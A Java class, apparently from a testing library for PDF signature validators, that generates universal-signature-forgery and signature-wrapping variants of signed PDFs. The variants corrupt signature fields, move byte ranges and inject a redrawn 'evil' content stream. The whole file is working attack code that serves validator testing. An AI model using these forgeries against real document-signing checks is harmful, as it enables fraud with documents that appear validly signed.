package org.yinxin.testlibrary.attacks;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/**
 * Universal signature forgery and signature wrapping (Mladenov, Mainka and others, "1 Trillion
 * Dollar Refund", CCS 2019): the signature is made unreadable, or its two ranges are moved apart,
 * while the drawing changes.
 */
public final class SignatureForgeries {
  private static final String USF = "Universal signature forgery";
  private static final String SWA = "Signature wrapping";

  private SignatureForgeries() {}

  /** All of them. */
  public static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    String contents = "/Contents <[0-9a-f]+>";
    String range = "/ByteRange \\[[^\\]]*\\]";
    usf(all, "no /Contents", contents, "");
    usf(all, "/Contents null", contents, "/Contents null");
    usf(all, "/Contents empty", contents, "/Contents <>");
    usf(all, "/Contents one zero byte", contents, "/Contents <00>");
    usf(all, "/Contents all zeros", contents, "/Contents <" + "00".repeat(8192) + ">");
    usf(all, "/Contents a wrong type", contents, "/Contents /Valid");
    usf(all, "no /ByteRange", range, "");
    usf(all, "/ByteRange null", range, "/ByteRange null");
    usf(all, "/ByteRange empty", range, "/ByteRange []");
    usf(all, "/ByteRange of zeros", range, "/ByteRange [0 0 0 0]");
    usf(all, "/ByteRange negative", range, "/ByteRange [0 -1 -1 -1]");
    usf(all, "/ByteRange beyond any file", range, "/ByteRange [0 999999999 999999999 999999999]");
    usf(all, "unknown /SubFilter", "/SubFilter /[A-Za-z.]+", "/SubFilter /none");
    usf(all, "no /Filter", "/Filter /[A-Za-z.]+", "");
    usf(all, "/Type changed", "/Type /Sig", "/Type /None");
    all.add(
        new Attack(
            SWA, "second range moved to the end, a forged part between", s -> wrapped(s, false)));
    all.add(new Attack(SWA, "forged part within the room of /Contents", s -> wrapped(s, true)));
    all.add(new Attack(SWA, "second /ByteRange in the same dictionary", SignatureForgeries::twice));
    all.add(
        new Attack(
            SWA,
            "a copy of the signature for a new field",
            s -> {
              Increment to = forged(s);
              int copy = to.object(to.of.signatureBody);
              return to.object(to.of.widget, Increment.with(to.of.widgetBody, "V", copy + " 0 R"))
                  .table();
            }));
    return all;
  }

  private static void usf(List<Attack> all, String name, String pattern, String replacement) {
    all.add(
        new Attack(
            USF,
            name,
            s -> {
              Increment to = forged(s);
              return to.object(
                      to.of.signature, to.of.signatureBody.replaceFirst(pattern, replacement))
                  .table();
            }));
  }

  /** An update with another drawing. */
  static Increment forged(Target target) throws Exception {
    Increment to = new Increment(target.one().file());
    return to.stream(to.of.contents, "", to.of.redrawn());
  }

  private static byte[] wrapped(Target target, boolean within) throws Exception {
    String text = Syntax.latin(target.one().file());
    Syntax of = new Syntax(target.one().file());
    int start = text.indexOf("/Contents<", text.indexOf("/ByteRange")) + 9;
    int end = text.indexOf('>', start) + 1;
    String evil =
        of.contents
            + " 0 obj\n<</Length "
            + of.redrawn().length
            + ">>\nstream\n"
            + Syntax.latin(of.redrawn())
            + "\nendstream\nendobj\n";
    String head = text.substring(0, start);
    String signature = text.substring(start, end);
    String tail = text.substring(end);
    String moved =
        within
            ? head + signature.substring(0, signature.length() - 1) + ">" + evil + "<" + tail
            : head + signature + evil + tail;
    int shift = moved.length() - text.length();
    int length = tail.length();
    String range = "/ByteRange[0 " + start + " " + (end + shift) + " " + length + "]";
    return moved
        .replaceFirst("/ByteRange\\[[^\\]]*\\]", range)
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] twice(Target target) throws Exception {
    byte[] forged = forged(target).table();
    String text = Syntax.latin(forged);
    int at = text.indexOf("/ByteRange");
    String whole = "/ByteRange[0 10 20 " + (forged.length - 20) + "]";
    byte[] bytes =
        (text.substring(0, at) + whole + text.substring(at)).getBytes(StandardCharsets.ISO_8859_1);
    return Arrays.copyOf(bytes, bytes.length);
  }
}
